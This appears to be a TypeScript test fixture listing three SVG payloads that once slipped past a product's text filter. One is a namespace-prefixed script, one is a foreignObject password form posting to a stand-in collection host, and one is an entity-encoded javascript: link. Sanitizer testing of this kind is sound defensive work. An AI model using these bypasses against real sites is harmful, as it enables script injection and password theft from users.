/**
 * SVGs that run a script or show a form of their author's when opened as a document, each past the text filter this product once had:
 * a namespace prefix on <script>, an HTML sign-in form inside a prefixed <foreignObject>, and a javascript: link spelled
 * with a character reference.
 */
export const ATTACK_SVGS = {
  'a prefixed script': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#0b5"/><x:script>alert(document.domain)</x:script></svg>`,
  'a foreignObject with an HTML form': `<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg" width="40" height="20"><rect width="40" height="20" fill="#0b5"/><s:foreignObject width="40" height="20"><h:form xmlns:h="http://www.w3.org/1999/xhtml" action="https://elsewhere.example/collect" method="post"><h:input type="password" name="password"/><h:button>Sign in</h:button></h:form></s:foreignObject></svg>`,
  'an entity-encoded javascript: link': `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20"><a href="&#106;avascript:alert(1)"><rect width="40" height="20" fill="#0b5"/></a></svg>`,
};
